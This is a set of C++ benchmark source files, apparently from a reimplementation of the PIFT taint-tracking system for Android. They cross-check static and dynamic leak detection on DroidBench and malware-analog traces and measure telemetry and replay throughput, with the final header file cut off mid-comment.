    std::vector<droidbench::StaticVerdict> all = verdicts;
    all.insert(all.end(), malware_verdicts.begin(),
               malware_verdicts.end());

    std::printf("%-36s %-8s %-10s %-10s\n", "app", "truth",
                "explicit", "implicit");
    for (const auto &v : all)
        std::printf("%-36s %-8s %-10s %-10s%s\n", v.name.c_str(),
                    v.leaks_truth ? "leaks" : "benign",
                    v.static_leaks ? "leaks" : "benign",
                    v.implicit_leaks ? "leaks" : "benign",
                    v.leaks_truth == v.implicit_leaks
                        ? (v.leaks_truth == v.static_leaks
                               ? ""
                               : "  <-- implicit only")
                        : "  <-- miss");

    // --- Dynamic verdicts at the paper's operating point. ----------
    auto t_dynamic = std::chrono::steady_clock::now();
    const auto &set = benchx::suiteTraces();
    core::PiftParams params;
    params.ni = 13;
    params.nt = 3;

    // One replay task per app, reduced back in registry order.
    std::vector<analysis::VerdictPair> pairs(verdicts.size());
    exec::parallelFor(verdicts.size(), [&](size_t vi) {
        const auto &v = verdicts[vi];
        analysis::VerdictPair &p = pairs[vi];
        p.name = v.name;
        p.truth = v.leaks_truth;
        p.static_leaks = v.static_leaks;
        p.implicit_leaks = v.implicit_leaks;
        for (const auto &item : set)
            if (item.name == v.name)
                p.dynamic_leaks =
                    analysis::piftDetectsLeak(item.trace, params);
    });
    auto cc = analysis::crossCheck(pairs);
    double dynamic_ms = msSince(t_dynamic);

    std::printf("\nconfusion vs ground truth (DroidBench suite):\n");
    printAccuracy("explicit oracle:", cc.static_vs_truth);
    printAccuracy("implicit oracle:", cc.implicit_vs_truth);
    printAccuracy("dynamic (NI=13,NT=3):", cc.dynamic_vs_truth);

    std::printf("\nexplicit static vs dynamic agreement matrix:\n");
    std::printf("  both leaky %-3u  static only %-3u\n", cc.both_flag,
                cc.static_only);
    std::printf("  dynamic only %-3u  both benign %-3u\n",
                cc.dynamic_only, cc.both_clean);
    for (const auto &name : cc.disagreements)
        std::printf("  disagreement: %s\n", name.c_str());
    std::printf("  implicit vs dynamic disagreements: %zu\n",
                cc.implicit_disagreements.size());
    for (const auto &name : cc.implicit_disagreements)
        std::printf("  implicit disagreement: %s\n", name.c_str());

    // --- Per-app policy table and the joined device policy. --------
    auto t_policy = std::chrono::steady_clock::now();
    auto policies =
        droidbench::derivePolicies(droidbench::droidBenchApps());
    auto malware_policies =
        droidbench::derivePolicies(droidbench::malwareApps());
    policies.insert(policies.end(), malware_policies.begin(),
                    malware_policies.end());
    double policy_ms = msSince(t_policy);

    std::printf("\nper-app static policy (risky rows only; full "
                "table in the JSON report):\n");
    std::vector<static_analysis::StaticPolicy> risky;
    for (const auto &p : policies)
        if (p.implicit_risk)
            risky.push_back(p);
    std::printf("%s",
                static_analysis::formatPolicyTable(risky).c_str());

    // --- Window bounds derived from the handler templates. ---------
    auto derivation = static_analysis::deriveWindowBounds();
    std::printf("\nderived window bounds (handler-template walk):\n");
    std::printf("  max intra-handler load->store distance: %d\n",
                derivation.intra_max);
    std::printf("  branch tail %d + interposed handler %d + const "
                "prefix %d\n", derivation.branch_tail_max,
                derivation.min_interposed,
                derivation.max_const_prefix);
    std::printf("  derived (NI, NT) = (%d, %d)\n",
                derivation.derived_ni, derivation.derived_nt);

    // Figure 11 sweep optimum: smallest NI (then NT) at 100%.
    auto t_sweep = std::chrono::steady_clock::now();
    auto bound = analysis::windowBoundSearch(set);
    double sweep_ms = msSince(t_sweep);
    std::printf("  Figure 11 sweep optimum: (NI=%u, NT=%u)\n",
                bound.ni, bound.nt);
    std::printf("  delta: (%d, %d)\n",
                derivation.derived_ni - static_cast<int>(bound.ni),
                derivation.derived_nt - static_cast<int>(bound.nt));

    auto pc = analysis::policyCrossCheck(policies, bound);
    std::printf("  joined static policy: (NI=%d, NT=%d), %u risky "
                "app(s), %s the optimum\n", pc.joined.ni,
                pc.joined.nt, pc.risky_apps,
                pc.covers ? "covers" : "DOES NOT COVER");

    unsigned malware_explicit = 0;
    unsigned malware_implicit = 0;
    for (const auto &v : malware_verdicts) {
        malware_explicit += v.static_leaks ? 1 : 0;
        malware_implicit += v.implicit_leaks ? 1 : 0;
    }

    // --- JSON report. ----------------------------------------------
    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_static_oracle\",\n";
    os << "  \"apps\": " << all.size() << ",\n";
    os << "  \"suite_apps\": " << verdicts.size() << ",\n";
    os << "  \"malware_apps\": " << malware_verdicts.size() << ",\n";
    emitAccuracy(os, "explicit", cc.static_vs_truth);
    emitAccuracy(os, "implicit", cc.implicit_vs_truth);
    emitAccuracy(os, "dynamic", cc.dynamic_vs_truth);
    os << "  \"agreement\": {\"both_flag\": " << cc.both_flag
       << ", \"both_clean\": " << cc.both_clean
       << ", \"static_only\": " << cc.static_only
       << ", \"dynamic_only\": " << cc.dynamic_only
       << ", \"implicit_dynamic_disagreements\": "
       << cc.implicit_disagreements.size() << "},\n";
    os << "  \"malware\": {\"apps\": " << malware_verdicts.size()
       << ", \"explicit_detected\": " << malware_explicit
       << ", \"implicit_detected\": " << malware_implicit << "},\n";
    os << "  \"policy\": {\"joined_ni\": " << pc.joined.ni
       << ", \"joined_nt\": " << pc.joined.nt
       << ", \"risky_apps\": " << pc.risky_apps
       << ", \"derived_ni\": " << derivation.derived_ni
       << ", \"derived_nt\": " << derivation.derived_nt
       << ", \"optimum_ni\": " << bound.ni
       << ", \"optimum_nt\": " << bound.nt
       << ", \"covers_optimum\": "
       << (pc.covers ? "true" : "false") << "},\n";
    os << "  \"per_app\": [\n";
    for (size_t i = 0; i < all.size(); ++i) {
        const auto &v = all[i];
        const auto &p = policies[i];
        bool dyn = false;
        bool has_dyn = i < pairs.size();
        if (has_dyn)
            dyn = pairs[i].dynamic_leaks;
        os << "    {\"name\": \"" << v.name << "\", \"truth\": "
           << (v.leaks_truth ? "true" : "false")
           << ", \"explicit\": "
           << (v.static_leaks ? "true" : "false")
           << ", \"implicit\": "
           << (v.implicit_leaks ? "true" : "false");
        if (has_dyn)
            os << ", \"dynamic\": " << (dyn ? "true" : "false");
        os << ", \"ni\": " << p.ni << ", \"nt\": " << p.nt
           << ", \"implicit_risk\": "
           << (p.implicit_risk ? "true" : "false")
           << ", \"untaint\": \""
           << (p.untaint_mode ==
                       static_analysis::UntaintMode::Keep
                   ? "keep"
                   : "scrub")
           << "\"}" << (i + 1 < all.size() ? "," : "") << "\n";
    }
    os << "  ],\n";
    os << "  \"wall_ms\": {\"static_sweep\": " << static_ms
       << ", \"dynamic_replay\": " << dynamic_ms
       << ", \"policy\": " << policy_ms
       << ", \"sweep_optimum\": " << sweep_ms << "}\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n",
                     out_path.c_str());
        return 2;
    }
    std::printf("\nwrote %s\n", out_path.c_str());

    bool invariants = cc.static_vs_truth.fp == 0 &&
        cc.implicit_vs_truth.fp == 0 &&
        cc.implicit_vs_truth.fn == 0 &&
        malware_implicit == malware_verdicts.size() && pc.covers;
    std::printf("verdict: %s\n",
                invariants
                    ? "implicit mode closes the FNs with zero FPs"
                    : "INVARIANT VIOLATION");
    return invariants ? 0 : 1;
}
