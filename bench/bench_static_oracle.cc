/**
 * @file
 * Static oracle vs dynamic PIFT: classify every DroidBench app
 * without executing it, cross-check against the replay verdicts at
 * the paper's operating point (NI=13, NT=3), and compare the window
 * bounds derived from the handler templates with the Figure 11 sweep
 * optimum. Everything here is deterministic: no execution feeds the
 * static side, and the replays are exact — the dynamic verdicts and
 * the sweep-optimum search fan out over the exec pool (`--jobs N`)
 * with byte-identical output at every width.
 */

#include <memory>

#include "bench/common.hh"

#include "analysis/crosscheck.hh"
#include "droidbench/static_oracle.hh"
#include "exec/thread_pool.hh"
#include "static/window.hh"

using namespace pift;

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "usage: %s [--jobs N]\n", argv[0]);
        return 2;
    }

    benchx::Phase phase("static taint oracle vs dynamic PIFT",
                   "Sections 3-5 (static cross-check)");

    // --- Static sweep: whole registry, no execution. ---------------
    auto verdicts =
        droidbench::staticSweep(droidbench::droidBenchApps());

    std::printf("%-36s %-8s %-8s\n", "app", "truth", "static");
    for (const auto &v : verdicts)
        std::printf("%-36s %-8s %-8s%s\n", v.name.c_str(),
                    v.leaks_truth ? "leaks" : "benign",
                    v.static_leaks ? "leaks" : "benign",
                    v.leaks_truth == v.static_leaks ? "" : "  <-- miss");

    // --- Dynamic verdicts at the paper's operating point. ----------
    const auto &set = benchx::suiteTraces();
    core::PiftParams params;
    params.ni = 13;
    params.nt = 3;

    // One replay task per app, reduced back in registry order.
    std::vector<analysis::VerdictPair> pairs(verdicts.size());
    exec::parallelFor(verdicts.size(), [&](size_t vi) {
        const auto &v = verdicts[vi];
        analysis::VerdictPair &p = pairs[vi];
        p.name = v.name;
        p.truth = v.leaks_truth;
        p.static_leaks = v.static_leaks;
        for (const auto &item : set)
            if (item.name == v.name)
                p.dynamic_leaks =
                    analysis::piftDetectsLeak(item.trace, params);
    });
    auto cc = analysis::crossCheck(pairs);

    std::printf("\nconfusion vs ground truth:\n");
    std::printf("  %-22s TP=%-3u FP=%-3u TN=%-3u FN=%-3u "
                "accuracy %.1f%%\n", "static oracle:",
                cc.static_vs_truth.tp, cc.static_vs_truth.fp,
                cc.static_vs_truth.tn, cc.static_vs_truth.fn,
                100.0 * cc.static_vs_truth.accuracy());
    std::printf("  %-22s TP=%-3u FP=%-3u TN=%-3u FN=%-3u "
                "accuracy %.1f%%\n", "dynamic (NI=13,NT=3):",
                cc.dynamic_vs_truth.tp, cc.dynamic_vs_truth.fp,
                cc.dynamic_vs_truth.tn, cc.dynamic_vs_truth.fn,
                100.0 * cc.dynamic_vs_truth.accuracy());

    std::printf("\nstatic vs dynamic agreement matrix:\n");
    std::printf("  both leaky %-3u  static only %-3u\n", cc.both_flag,
                cc.static_only);
    std::printf("  dynamic only %-3u  both benign %-3u\n",
                cc.dynamic_only, cc.both_clean);
    for (const auto &name : cc.disagreements)
        std::printf("  disagreement: %s\n", name.c_str());

    // --- Window bounds derived from the handler templates. ---------
    auto derivation = static_analysis::deriveWindowBounds();
    std::printf("\nderived window bounds (handler-template walk):\n");
    std::printf("  max intra-handler load->store distance: %d\n",
                derivation.intra_max);
    std::printf("  branch tail %d + interposed handler %d + const "
                "prefix %d\n", derivation.branch_tail_max,
                derivation.min_interposed,
                derivation.max_const_prefix);
    std::printf("  derived (NI, NT) = (%d, %d)\n",
                derivation.derived_ni, derivation.derived_nt);

    // Figure 11 sweep optimum: smallest NI (then NT) at 100%.
    auto bound = analysis::windowBoundSearch(set);
    std::printf("  Figure 11 sweep optimum: (NI=%u, NT=%u)\n",
                bound.ni, bound.nt);
    std::printf("  delta: (%d, %d)\n",
                derivation.derived_ni - static_cast<int>(bound.ni),
                derivation.derived_nt - static_cast<int>(bound.nt));
    return 0;
}
