/**
 * @file
 * Table 1: native load-store distances within Dalvik bytecodes.
 *
 * For every data-moving bytecode, the longest distance (in retired
 * instructions) from a load of moved program data to the data store
 * inside the emitted handler template, bucketed exactly like the
 * paper's table. ABI-helper bytecodes (float arithmetic, integer
 * division) have helper-dependent distances and are reported as
 * "unknown", as in the paper.
 */

#include "analysis/census.hh"
#include "bench/common.hh"

#include <map>
#include <string>
#include <vector>

using namespace pift;

int
main()
{
    benchx::Phase phase("Table 1 — load-store distances within bytecodes",
                   "Section 4.1, Table 1");

    auto rows = analysis::bytecodeDistanceTable();

    std::map<int, std::vector<std::string>> buckets;
    unsigned moving = 0, unknown = 0, nonmoving = 0, mismatched = 0;
    for (const auto &row : rows) {
        if (row.expected == -1) {
            ++nonmoving;
            continue;
        }
        if (row.expected == -2) {
            ++unknown;
            buckets[-2].push_back(dalvik::bcName(row.bc));
            continue;
        }
        ++moving;
        buckets[row.measured].push_back(dalvik::bcName(row.bc));
        if (row.measured != row.expected)
            ++mismatched;
    }

    std::printf("%-10s %-5s %s\n", "distance", "count",
                "example bytecodes");
    for (const auto &[distance, names] : buckets) {
        std::string examples;
        for (size_t i = 0; i < names.size() && i < 4; ++i) {
            if (i)
                examples += ", ";
            examples += names[i];
        }
        if (distance == -2)
            std::printf("%-10s %-5zu %s\n", "unknown", names.size(),
                        examples.c_str());
        else
            std::printf("%-10d %-5zu %s\n", distance, names.size(),
                        examples.c_str());
    }

    std::printf("\nimplemented bytecodes: %u data-moving, %u via ABI "
                "helpers (unknown), %u non-moving\n",
                moving, unknown, nonmoving);
    std::printf("paper (256 bytecodes): distances 1-6 dominate, a 9-12 "
                "bucket (mul-long, aput-object), 47 unknown\n");
    std::printf("template-vs-Table-1 mismatches: %u (0 expected)\n",
                mismatched);

    std::printf("\nper-bytecode detail (measured vs paper):\n");
    for (const auto &row : rows) {
        if (row.expected == -1)
            continue;
        if (row.expected == -2)
            std::printf("  %-22s unknown (ABI helper)\n",
                        dalvik::bcName(row.bc));
        else
            std::printf("  %-22s measured %-3d paper %d\n",
                        dalvik::bcName(row.bc), row.measured,
                        row.expected);
    }
    return mismatched == 0 ? 0 : 1;
}
