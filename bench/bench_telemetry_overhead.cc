/**
 * @file
 * Telemetry overhead bench: replays the full 64-app registry with
 * collection enabled and with collection disabled (the runtime gate,
 * which upper-bounds what a PIFT_TELEMETRY=OFF build would pay,
 * since OFF removes even the enabled-flag branch), reports the
 * wall-time delta, and writes BENCH_telemetry.json — the structured
 * perf-trajectory artifact the ROADMAP's "fast as the hardware
 * allows" goal is tracked by.
 *
 * Acceptance target (ISSUE 4): enabled-vs-disabled overhead <= 5%.
 *
 * Usage: bench_telemetry_overhead [--reps N] [--out FILE]
 *        [--trace FILE]
 */

#include "bench/common.hh"
#include "telemetry/telemetry.hh"

#include <chrono>
#include <cmath>
#include <cstring>
#include <string>

using namespace pift;

namespace
{

/** Total records across the captured registry. */
uint64_t
totalRecords(const std::vector<analysis::LabelledTrace> &set)
{
    uint64_t n = 0;
    for (const auto &item : set)
        n += item.trace.records.size();
    return n;
}

/** Wall milliseconds for one replay of the whole registry. */
double
replayAll(const std::vector<analysis::LabelledTrace> &set)
{
    core::PiftParams params; // the paper's (13, 3)
    auto t0 = std::chrono::steady_clock::now();
    for (const auto &item : set)
        (void)analysis::piftDetectsLeak(item.trace, params);
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    int reps = 0;
    std::string out_path = "BENCH_telemetry.json";
    std::string trace_path;
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--reps") && i + 1 < argc)
            reps = std::atoi(argv[++i]);
        else if (!std::strcmp(argv[i], "--out") && i + 1 < argc)
            out_path = argv[++i];
        else if (!std::strcmp(argv[i], "--trace") && i + 1 < argc)
            trace_path = argv[++i];
        else
            pift_fatal("usage: bench_telemetry_overhead [--reps N] "
                       "[--out FILE] [--trace FILE]");
    }

    benchx::Phase phase("telemetry collection overhead",
                        "ISSUE 4 acceptance (<= 5% wall-time)");
    setQuiet(true);

    const auto &set = benchx::registryTraces();
    uint64_t records = totalRecords(set);
    std::printf("registry: %zu apps, %llu trace records, telemetry "
                "%s\n", set.size(),
                static_cast<unsigned long long>(records),
                telemetry::compiledIn() ? "compiled in"
                                        : "compiled OUT");

    if (reps <= 0) {
        // Size the measurement so each leg accumulates ~1 second.
        double one = replayAll(set);
        reps = std::max(5, static_cast<int>(std::ceil(1000.0 /
                                                      std::max(one,
                                                               1.0))));
    }
    std::printf("timing %d interleaved repetitions per leg\n", reps);

    // Interleave the two legs and keep the per-rep minimum of each:
    // on a shared machine, scheduler noise only ever inflates a rep,
    // so min-of-reps converges on the true cost and interleaving
    // cancels slow drift (thermal, page cache) between the legs.
    replayAll(set); // warm-up
    double disabled_ms = 0.0;
    double enabled_ms = 0.0;
    double enabled_total = 0.0;
    for (int r = 0; r < reps; ++r) {
        telemetry::setEnabled(false);
        double d = replayAll(set);
        telemetry::setEnabled(true);
        double e = replayAll(set);
        enabled_total += e;
        if (r == 0 || d < disabled_ms)
            disabled_ms = d;
        if (r == 0 || e < enabled_ms)
            enabled_ms = e;
    }

    double overhead_pct = disabled_ms > 0.0
        ? 100.0 * (enabled_ms - disabled_ms) / disabled_ms
        : 0.0;
    uint64_t replayed = records * static_cast<uint64_t>(reps);
    double events_per_sec = enabled_total > 0.0
        ? 1000.0 * static_cast<double>(replayed) / enabled_total
        : 0.0;

    std::printf("\n%-28s %12.1f ms  (min of %d)\n",
                "collection disabled:", disabled_ms, reps);
    std::printf("%-28s %12.1f ms  (min of %d)\n",
                "collection enabled:", enabled_ms, reps);
    std::printf("%-28s %11.2f %%  (target: <= 5%%)\n",
                "telemetry overhead:", overhead_pct);
    std::printf("%-28s %12.2e records/s\n", "replay throughput:",
                events_per_sec);

    telemetry::sampleRegistryToTracer();

    telemetry::BenchReport report;
    report.bench = "bench_telemetry_overhead";
    report.apps = set.size();
    report.repetitions = static_cast<uint64_t>(reps);
    report.records_replayed = replayed;
    report.wall_ms = enabled_ms; // min-of-reps, one registry pass
    report.events_per_sec = events_per_sec;
    report.wall_ms_disabled = disabled_ms; // min-of-reps, one pass
    report.overhead_pct = overhead_pct;
    std::string err = telemetry::saveBenchReport(out_path, report);
    if (!err.empty())
        pift_fatal("%s", err.c_str());
    std::printf("\nwrote %s\n", out_path.c_str());

    if (!trace_path.empty()) {
        err = telemetry::saveChromeTrace(trace_path);
        if (!err.empty())
            pift_fatal("%s", err.c_str());
        std::printf("wrote %s (open at chrome://tracing)\n",
                    trace_path.c_str());
    }

    // Informational verdict; wall-clock noise on shared CI runners
    // makes a hard exit code flaky, so the JSON carries the number.
    std::printf("\nverdict: %s\n",
                overhead_pct <= 5.0 ? "within the 5% budget"
                                    : "OVER the 5% budget");
    return 0;
}
