/**
 * @file
 * Single-thread hot-path throughput bench (DESIGN.md §12): one timed
 * section per attack on the serial event path, so each win is
 * attributable, plus a built-in verdict cross-check between the
 * per-event and batched replay pipelines. Emits schema-validated
 * BENCH_throughput.json (schemas/bench_throughput.schema.json) so CI
 * fails on structural or semantic regressions:
 *
 *  - replay_per_event / replay_batched: the full 64-app registry
 *    replayed through PiftTracker via the per-event TraceSink path
 *    vs the SoA batch pipeline (pre-packed, as the grids use it).
 *  - capture_baseline / capture_decode / capture_fast: live
 *    execution+capture of the registry with the decoded-instruction
 *    cache and event batching off, cache only, and cache+batching.
 *  - lookup_range_set: branchless binary search microbench on the
 *    sorted range store.
 *  - lookup_storage_probe: TaintStorage (LruSpill) query stream with
 *    a miss-heavy working set exercising the hot-probe cache.
 *
 * Run: ./build/bench/bench_throughput [--out FILE] [--passes N]
 */

#include <cstring>
#include <fstream>
#include <random>
#include <string>
#include <vector>

#include "bench/common.hh"
#include "core/taint_storage.hh"
#include "sim/batch.hh"

using namespace pift;

namespace
{

struct Section
{
    std::string name;
    uint64_t events = 0;
    double wall_ms = 0.0;
    double events_per_sec = 0.0;
};

/**
 * Time @p fn (one rep worth of @p events) @p reps times and keep the
 * fastest rep — min-of-N rejects scheduler noise, which on shared
 * machines dwarfs the effects under test.
 */
template <typename Fn>
Section
section(const char *name, unsigned reps, uint64_t events, Fn &&fn)
{
    benchx::Timed best;
    for (unsigned r = 0; r < reps; ++r) {
        benchx::Timed t = benchx::timedRun(events, fn);
        if (r == 0 || t.wall_ms < best.wall_ms)
            best = t;
    }
    std::printf("  %-22s %10.1f ms %14.0f events/sec\n", name,
                best.wall_ms, best.events_per_sec);
    return {name, events, best.wall_ms, best.events_per_sec};
}

/** Leak verdict per registry app under the default window. */
std::vector<bool>
replayVerdicts(const std::vector<analysis::LabelledTrace> &set,
               bool batched)
{
    std::vector<bool> verdicts;
    verdicts.reserve(set.size());
    for (const auto &item : set) {
        core::IdealRangeStore store;
        core::PiftTracker tracker(core::PiftParams{}, store);
        if (batched)
            sim::replayBatched(item.trace, tracker);
        else
            sim::replay(item.trace, tracker);
        verdicts.push_back(tracker.anyLeak());
    }
    return verdicts;
}

/** One live capture of the registry under explicit CPU tuning. */
uint64_t
captureRegistry(size_t decode_slots, uint32_t batch_records)
{
    uint64_t records = 0;
    auto runOne = [&](const droidbench::AppEntry &entry) {
        droidbench::AppContext ctx;
        ctx.cpu.setDecodeCache(decode_slots);
        ctx.cpu.setBatching(batch_records);
        dalvik::MethodId main = entry.declare(ctx);
        ctx.vm.boot();
        ctx.vm.execute(main);
        records += ctx.buffer.trace().records.size();
    };
    for (const auto &entry : droidbench::droidBenchApps())
        runOne(entry);
    for (const auto &entry : droidbench::malwareApps())
        runOne(entry);
    return records;
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    std::string out_path = "BENCH_throughput.json";
    unsigned passes = 150;
    for (int i = 1; i < argc; ++i) {
        if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
            out_path = argv[++i];
        } else if (std::strcmp(argv[i], "--passes") == 0 &&
                   i + 1 < argc) {
            passes = static_cast<unsigned>(
                std::strtoul(argv[++i], nullptr, 10));
            if (passes == 0)
                passes = 1;
        } else {
            std::fprintf(stderr,
                         "usage: %s [--out FILE] [--passes N]\n",
                         argv[0]);
            return 2;
        }
    }

    benchx::Phase phase("single-thread hot-path throughput",
                        "hot-path raw speed (ROADMAP)");

    const auto &set = benchx::registryTraces();
    uint64_t records = 0;
    for (const auto &item : set)
        records += item.trace.records.size();
    std::printf("workload: %zu apps, %llu records/pass, %u passes\n\n",
                set.size(), static_cast<unsigned long long>(records),
                passes);

    std::vector<Section> sections;

    // --- Attack 2+3: offline replay, per-event vs batched. Both
    // sides burn identical tracker work; the packed images are built
    // once up front exactly as the accuracy grids amortize them.
    std::vector<sim::PackedTrace> packed;
    packed.reserve(set.size());
    for (const auto &item : set)
        packed.emplace_back(item.trace);

    core::PiftParams params; // paper default window
    constexpr unsigned reps = 5;
    const unsigned rep_passes = passes >= reps ? passes / reps : 1;
    const uint64_t replay_events = records * rep_passes;

    replayVerdicts(set, false); // warm-up (allocator, caches)
    sections.push_back(section(
        "replay_per_event", reps, replay_events, [&] {
            for (unsigned p = 0; p < rep_passes; ++p)
                for (const auto &item : set) {
                    core::IdealRangeStore store;
                    core::PiftTracker tracker(params, store);
                    sim::replay(item.trace, tracker);
                }
        }));
    sections.push_back(section(
        "replay_batched", reps, replay_events, [&] {
            for (unsigned p = 0; p < rep_passes; ++p)
                for (const auto &pt : packed) {
                    core::IdealRangeStore store;
                    core::PiftTracker tracker(params, store);
                    sim::replayBatched(pt, tracker);
                }
        }));

    // Verdict differential: the batched pipeline must report exactly
    // the per-event leaks on every registry app.
    bool verdicts_identical =
        replayVerdicts(set, false) == replayVerdicts(set, true);
    std::printf("  verdicts (batched vs per-event): %s\n",
                verdicts_identical ? "identical" : "MISMATCH");

    // --- Attack 1: live capture with the decoded-instruction cache
    // and event batching toggled. Fewer passes: execution dominates.
    const unsigned cap_passes =
        rep_passes >= 10 ? rep_passes / 10 : 1;
    captureRegistry(0, 0); // warm-up
    const uint64_t cap_events = records * cap_passes;
    sections.push_back(
        section("capture_baseline", reps, cap_events, [&] {
            for (unsigned p = 0; p < cap_passes; ++p)
                captureRegistry(0, 0);
        }));
    sections.push_back(
        section("capture_decode", reps, cap_events, [&] {
            for (unsigned p = 0; p < cap_passes; ++p)
                captureRegistry(4096, 0);
        }));
    sections.push_back(
        section("capture_fast", reps, cap_events, [&] {
            for (unsigned p = 0; p < cap_passes; ++p)
                captureRegistry(4096, sim::default_batch_records);
        }));

    // --- Attack 3 microbenches. Fixed seed: identical streams every
    // run and on every machine.
    std::mt19937 rng(20160402u);
    std::uniform_int_distribution<uint32_t> addr_dist(0, 1u << 20);

    taint::RangeSet rset;
    for (uint32_t i = 0; i < 64; ++i)
        rset.insert(taint::AddrRange(i * 16384u, i * 16384u + 63u));
    const uint64_t probes = 4'000'000;
    std::vector<Addr> probe_addrs(1024);
    for (auto &a : probe_addrs)
        a = addr_dist(rng);
    uint64_t sink = 0; // defeat dead-code elimination
    sections.push_back(
        section("lookup_range_set", reps, probes, [&] {
            for (uint64_t i = 0; i < probes; ++i)
                sink += rset.contains(probe_addrs[i & 1023]);
        }));

    // The storage stream models the tracker's dominant pattern: a hot
    // loop re-querying a small set of untainted locations. 64 distinct
    // probes keep the direct-mapped memo mostly collision-free; a full
    // CAM scan (2730 entries) only runs on memo misses.
    core::TaintStorageParams sp;
    core::TaintStorage storage(sp);
    for (uint32_t i = 0; i < 64; ++i)
        storage.insert(1, taint::AddrRange(i * 16384u,
                                           i * 16384u + 63u));
    const uint64_t storage_probes = 1'000'000;
    sections.push_back(
        section("lookup_storage_probe", reps, storage_probes, [&] {
            for (uint64_t i = 0; i < storage_probes; ++i) {
                Addr a = probe_addrs[i & 63];
                sink += storage.query(1, taint::AddrRange(a, a + 3));
            }
        }));
    const auto &sstat = storage.stats();
    double probe_hit_rate = sstat.lookups
        ? static_cast<double>(sstat.hot_probe_hits) /
            static_cast<double>(sstat.lookups)
        : 0.0;
    std::printf("  hot-probe hit rate: %.1f%% (sink %llu)\n",
                100.0 * probe_hit_rate,
                static_cast<unsigned long long>(sink & 1));

    auto find = [&](const char *name) -> const Section & {
        for (const auto &s : sections)
            if (s.name == name)
                return s;
        pift_panic("missing section %s", name);
        return sections.front(); // unreachable
    };
    auto ratio = [](const Section &num, const Section &den) {
        return den.events_per_sec > 0.0
            ? num.events_per_sec / den.events_per_sec
            : 0.0;
    };
    const double sp_batched =
        ratio(find("replay_batched"), find("replay_per_event"));
    const double sp_decode =
        ratio(find("capture_decode"), find("capture_baseline"));
    const double sp_capture =
        ratio(find("capture_fast"), find("capture_baseline"));
    std::printf("\nspeedups: batched replay %.2fx, decode cache "
                "%.2fx, capture fast-path %.2fx\n",
                sp_batched, sp_decode, sp_capture);

    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_throughput\",\n";
    os << "  \"apps\": " << set.size() << ",\n";
    os << "  \"records_per_pass\": " << records << ",\n";
    os << "  \"reps\": " << reps << ",\n";
    os << "  \"replay_passes_per_rep\": " << rep_passes << ",\n";
    os << "  \"capture_passes_per_rep\": " << cap_passes << ",\n";
    os << "  \"verdicts_identical\": "
       << (verdicts_identical ? "true" : "false") << ",\n";
    os << "  \"hot_probe_hit_rate\": " << probe_hit_rate << ",\n";
    os << "  \"speedups\": {\n";
    os << "    \"replay_batched_vs_per_event\": " << sp_batched
       << ",\n";
    os << "    \"capture_decode_vs_baseline\": " << sp_decode << ",\n";
    os << "    \"capture_fast_vs_baseline\": " << sp_capture << "\n";
    os << "  },\n";
    os << "  \"sections\": [\n";
    for (size_t i = 0; i < sections.size(); ++i) {
        const Section &s = sections[i];
        os << "    {\"name\": \"" << s.name << "\", \"events\": "
           << s.events << ", \"wall_ms\": " << s.wall_ms
           << ", \"events_per_sec\": " << s.events_per_sec << "}"
           << (i + 1 < sections.size() ? "," : "") << "\n";
    }
    os << "  ]\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n", out_path.c_str());
        return 2;
    }
    std::printf("wrote %s\n", out_path.c_str());

    return verdicts_identical ? 0 : 1;
}
