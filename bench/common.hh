/**
 * @file
 * Shared plumbing for the figure/table reproduction benches: cached
 * app-suite captures, consistent headers, and the replay loops the
 * bench_fig* binaries used to duplicate (NI x NT overhead grids,
 * untainting comparisons, per-parameter time-series sweeps). Every
 * helper installs telemetry spans, so any bench run can be exported
 * as a Chrome trace. Every bench prints the paper's rows/series and,
 * where the paper states numbers, the paper's value next to the
 * measured one.
 */

#ifndef PIFT_BENCH_COMMON_HH
#define PIFT_BENCH_COMMON_HH

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <initializer_list>
#include <string>
#include <utility>
#include <vector>

#include "analysis/evaluate.hh"
#include "droidbench/app.hh"
#include "stats/render.hh"
#include "support/logging.hh"
#include "telemetry/telemetry.hh"

namespace pift::benchx
{

/** The LGRoot malware trace (captured once per process). */
inline const sim::Trace &
lgrootTrace()
{
    static const sim::Trace trace = [] {
        telemetry::Span span("bench:capture_lgroot", "bench");
        const auto &entry = droidbench::malwareApps().front();
        pift_assert(entry.name == "malware_lgroot",
                    "LGRoot must be the first malware entry");
        return droidbench::runApp(entry).trace;
    }();
    return trace;
}

/** Labelled traces of the full DroidBench suite (captured once). */
inline const std::vector<analysis::LabelledTrace> &
suiteTraces()
{
    static const std::vector<analysis::LabelledTrace> set = [] {
        telemetry::Span span("bench:capture_droidbench", "bench");
        std::vector<analysis::LabelledTrace> out;
        for (const auto &entry : droidbench::droidBenchApps()) {
            auto run = droidbench::runApp(entry);
            out.push_back({entry.name, entry.leaks,
                           std::move(run.trace)});
        }
        return out;
    }();
    return set;
}

/**
 * Labelled traces of the complete 64-app registry: the DroidBench
 * suite plus the seven malware analogs (captured once per process).
 */
inline const std::vector<analysis::LabelledTrace> &
registryTraces()
{
    static const std::vector<analysis::LabelledTrace> set = [] {
        telemetry::Span span("bench:capture_registry", "bench");
        std::vector<analysis::LabelledTrace> out = suiteTraces();
        for (const auto &entry : droidbench::malwareApps()) {
            auto run = droidbench::runApp(entry);
            out.push_back({entry.name, entry.leaks,
                           std::move(run.trace)});
        }
        return out;
    }();
    return set;
}

/** Wall-clock measurement of one timed region (see timedRun). */
struct Timed
{
    double wall_ms = 0.0;
    double events_per_sec = 0.0;
};

/**
 * Run @p fn once, measuring wall time and deriving a throughput over
 * @p events — the shared events/sec arithmetic of the throughput and
